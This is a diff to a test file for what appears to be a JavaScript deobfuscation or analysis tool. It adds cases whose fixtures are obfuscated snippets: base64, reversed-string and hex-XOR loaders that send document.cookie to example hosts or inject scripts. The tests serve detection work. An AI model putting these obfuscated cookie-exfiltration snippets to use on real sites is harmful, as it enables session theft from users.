@@ -30,6 +30,14 @@ const CASES: { name: string; source: string; has: string[]; not?: string[] }[] =
     has: ['atob("ZmV0Y2goIi94P2Q9Iitkb2N1bWVudC5jb29raWUp")'],
   },
   {
+    name: 'a built-in that is no decoder (join) is not passed off as decoded text',
+    source: `var sep = '', parts = ['render(', 'model', ');'];
+      function go(){ var body = parts.join(sep); return new Function('model', body) }
+      go()`,
+    has: [],
+    not: ['atob('],
+  },
+  {
     name: 'hex XORed into a Uint8Array and read with a TextDecoder',
     source: `function unpack(h,k){const o=new Uint8Array(h.length/2);for(let i=0;i<o.length;i++)o[i]=parseInt(h.substr(i*2,2),16)^k.charCodeAt(i%k.length);return new TextDecoder().decode(o)}
       const s=document.createElement('script');s.text=unpack('0d5c1f5a031149511f4d1b4a51164441455c13580649075c445a545d561b405d045a1e540e571f1708560452025c42','k9');document.head.appendChild(s)`,
@@ -475,6 +483,13 @@ const CASES: { name: string; source: string; has: string[]; not?: string[] }[] =
       var a = src.indexOf('cfg:start'), b = src.indexOf('cfg:end')
       setTimeout(atob(src.slice(a + 9, b).trim()), 0)`,
     has: ['atob("ZmV0Y2goJ2h0dHBzOi8vaC5leGFtcGxlL2M/Jytkb2N1bWVudC5jb29raWUp")'],
+  },
+  {
+    name: 'Function.prototype is no object of the sample: members other than toString and constructor are unknown',
+    source: `var k = typeof Function.prototype.bind === 'undefined' ? 'elpmaxe.a//:sptth' : 'elpmaxe.b//:sptth'
+      fetch(k.split('').reverse().join('') + '/c?' + document.cookie)`,
+    has: [],
+    not: ['"https://a.example'],
   },
   {
     name: "code given to an async function's or a generator's constructor, with new, is read as Function's",
